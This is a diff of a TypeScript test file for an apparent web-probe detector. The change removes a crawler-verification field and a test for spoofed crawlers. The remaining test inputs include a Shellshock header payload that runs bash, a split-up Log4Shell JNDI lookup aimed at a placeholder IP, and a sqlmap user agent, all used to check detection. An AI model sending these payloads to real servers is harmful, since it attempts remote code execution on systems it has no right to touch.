@@ -16,7 +16,6 @@ function requestOf(target: string, status: number, given: Partial<ProbeRequest> 
     status,
     user_agent: 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0',
     bot_name: '',
-    bot_verification: '',
     ...given,
   };
 }
@@ -184,19 +183,13 @@ describe('a probe', () => {
   });
 
   it('is what a tool for attacks asks for, and what a header tries', () => {
-    expect(isProbe(requestOf('/', 200, { bot_name: 'sqlmap', bot_verification: 'unverifiable' }))).toBe(true);
+    expect(isProbe(requestOf('/', 200, { bot_name: 'sqlmap' }))).toBe(true);
     expect(isProbe(requestOf('/', 200, { bot_name: 'CensysInspect' }))).toBe(false);
     expect(isProbe(requestOf('/', 200, { user_agent: '() { :; }; /bin/bash -c "id"' }))).toBe(true);
     expect(isProbe(requestOf('/', 200, { user_agent: ['$', '{jndi:ldap://203.0.113.9/a}'].join('') }))).toBe(
       true,
     );
     expect(isProbe(requestOf('/', 200, { user_agent: 'Reader/1.0 {feed}' }))).toBe(false);
-  });
-
-  it('is nothing of a verified crawler, who follows the links of others', () => {
-    const crawler = { bot_name: 'Googlebot', bot_verification: 'verified' } as const;
-    expect(isProbe(requestOf('/.env', 404, crawler))).toBe(false);
-    expect(isProbe(requestOf('/.env', 404, { ...crawler, bot_verification: 'spoofed' }))).toBe(true);
   });
 });
 
